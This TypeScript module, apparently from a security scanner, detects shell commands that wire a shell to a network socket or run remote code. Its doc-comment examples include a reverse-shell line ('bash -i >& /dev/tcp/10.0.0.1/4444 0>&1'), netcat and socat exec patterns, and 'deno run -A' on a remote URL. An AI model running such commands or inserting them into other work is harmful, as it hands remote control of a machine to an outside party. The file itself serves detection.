// Copyright 2026 the skillscope authors. MIT license.
/**
 * Ways code reaches a shell or an interpreter from the network other than a
 * downloader: a socket (`/dev/tcp/…`, `nc`, `socat`) wired to a shell, and a
 * runner given a URL to run (`deno run -A https://…`).
 *
 * @module
 */
import type { Described } from "./exec_commands.ts";
import type { RunnerUse } from "./exec_runners.ts";
import type { Command, Word } from "./shell_lexer.ts";

const SOCKET = /^\/dev\/(?:tcp|udp)\//;
const REMOTE = /^https?:\/\//i;
const NETCATS = new Set(["nc", "ncat", "netcat"]);
// deno subcommands that run (or install to run) the module they are given.
const DENO_RUNS = new Set(["run", "x", "install", "compile", "test", "serve"]);

/** A redirection to or from a descriptor opened on a socket (`<&3`). */
function fromDescriptor(op: string, target: Word): boolean {
  return op.startsWith("<") && op.endsWith("&") && /^[3-9]$/.test(target.value);
}

/**
 * Whether a command opens a network socket (`exec 3<>/dev/tcp/host/80`).
 *
 * @example Usage
 * ```ts
 * import { opensSocket } from "./exec_channels.ts";
 * import { lexShell } from "./shell_lexer.ts";
 * import assert from "node:assert/strict";
 *
 * const text = "exec 3<>/dev/tcp/x.example/80";
 * assert.ok(opensSocket(lexShell(text, 0, text.length, "shell").pipelines[0]![0]!));
 * ```
 *
 * @param command A lexed command.
 * @returns `true` when one of its redirections names `/dev/tcp` or `/dev/udp`.
 */
export function opensSocket(command: Command): boolean {
  return command.redirects.some((r) => SOCKET.test(r.target.value));
}

/**
 * Where a shell or interpreter is wired to a network socket, so it runs what
 * the other end sends: `bash -i >& /dev/tcp/host/port 0>&1`, `sh <&3` after
 * a socket was opened, `nc -e /bin/sh host port`, `socat tcp:… exec:sh`.
 *
 * @example Usage
 * ```ts
 * import { wiredShell } from "./exec_channels.ts";
 * import { describe } from "./exec_commands.ts";
 * import { lexShell } from "./shell_lexer.ts";
 * import assert from "node:assert/strict";
 *
 * const text = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
 * const command = lexShell(text, 0, text.length, "shell").pipelines[0]![0]!;
 * assert.equal(wiredShell(describe(command, false), true, false), 11);
 * ```
 *
 * @param described A command.
 * @param runner Whether it is a shell or an interpreter.
 * @param socketOpen Whether a socket was opened on a descriptor before it.
 * @returns The index of what wires it, or `undefined`.
 */
export function wiredShell(
  described: Described,
  runner: boolean,
  socketOpen: boolean,
): number | undefined {
  const { command, name } = described;
  if (runner) {
    for (const { op, target } of command.redirects) {
      if (SOCKET.test(target.value)) return target.start;
      if (socketOpen && fromDescriptor(op, target)) return target.start;
    }
  }
  // In prose the command's name may be a later word (`/bin/sh`).
  const at = NETCATS.has(name) || name === "socat"
    ? described.at
    : command.words.findIndex((w) =>
      /^(?:nc|ncat|netcat|socat)$/.test(w.value)
    );
  if (at === -1) return undefined;
  const tool = command.words[at]!;
  const args = command.words.slice(at + 1).map((w) => w.value);
  if (
    tool.value !== "socat" &&
    args.some((v) =>
      /^-[a-zA-Z]*e/.test(v) || /^--(?:exec|sh-exec|lua-exec)\b/.test(v)
    )
  ) return tool.start;
  if (
    args.some((v) => /^(?:exec|system):/i.test(v)) &&
    args.some((v) => /^(?:tcp|udp|ssl|openssl)[46]?(?:-\w+)?:/i.test(v))
  ) return tool.start;
  return undefined;
}

/**
 * Where a command reads from the network without a downloader: a
 * redirection from `/dev/tcp/…` (or from a descriptor opened on one), `nc`,
 * `ncat`, `socat`, `telnet`, `openssl s_client`.
 *
 * @example Usage
 * ```ts
 * import { socketRead } from "./exec_channels.ts";
 * import { describe } from "./exec_commands.ts";
 * import { lexShell } from "./shell_lexer.ts";
 * import assert from "node:assert/strict";
 *
 * const text = "cat < /dev/tcp/x.example/80";
 * const command = lexShell(text, 0, text.length, "shell").pipelines[0]![0]!;
 * assert.equal(socketRead(describe(command, false), false), 6);
 * ```
 *
 * @param described A command.
 * @param socketOpen Whether a socket was opened on a descriptor before it.
 * @returns The index of what reads, or `undefined`.
 */
export function socketRead(
  described: Described,
  socketOpen: boolean,
): number | undefined {
  const { command, name } = described;
  for (const { op, target } of command.redirects) {
    if (op.startsWith("<") && SOCKET.test(target.value)) return target.start;
    if (socketOpen && fromDescriptor(op, target)) return target.start;
  }
  if (
    NETCATS.has(name) || name === "socat" || name === "telnet" ||
    name === "openssl" && described.args[0]?.value === "s_client"
  ) return command.words[described.at]!.start;
  return undefined;
}

/**
 * The URL a runner is given to run: `deno run -A https://…`, `deno install
 * -g https://…`, `deno https://…`.
 *
 * @example Usage
 * ```ts
 * import { remoteScript } from "./exec_channels.ts";
 * import { describe } from "./exec_commands.ts";
 * import { runnerUse } from "./exec_runners.ts";
 * import { lexShell } from "./shell_lexer.ts";
 * import assert from "node:assert/strict";
 *
 * const text = "deno run -A https://x.example/i.ts";
 * const described = describe(lexShell(text, 0, text.length, "shell").pipelines[0]![0]!, false);
 * assert.equal(remoteScript(described, runnerUse("deno", described, false))?.value, "https://x.example/i.ts");
 * ```
 *
 * @param described A command.
 * @param use How it runs code, when it is a runner.
 * @returns The URL's word, or `undefined`.
 */
export function remoteScript(
  described: Described,
  use: RunnerUse | undefined,
): Word | undefined {
  const script = use?.script;
  if (
    script !== undefined && (use!.kind === "deno" || use!.kind === "node") &&
    REMOTE.test(script.value)
  ) return script;
  if (described.name !== "deno") return undefined;
  const [sub, ...rest] = described.args;
  if (sub === undefined) return undefined;
  if (REMOTE.test(sub.value)) return sub;
  return DENO_RUNS.has(sub.value)
    ? rest.find((w) => REMOTE.test(w.value))
    : undefined;
}
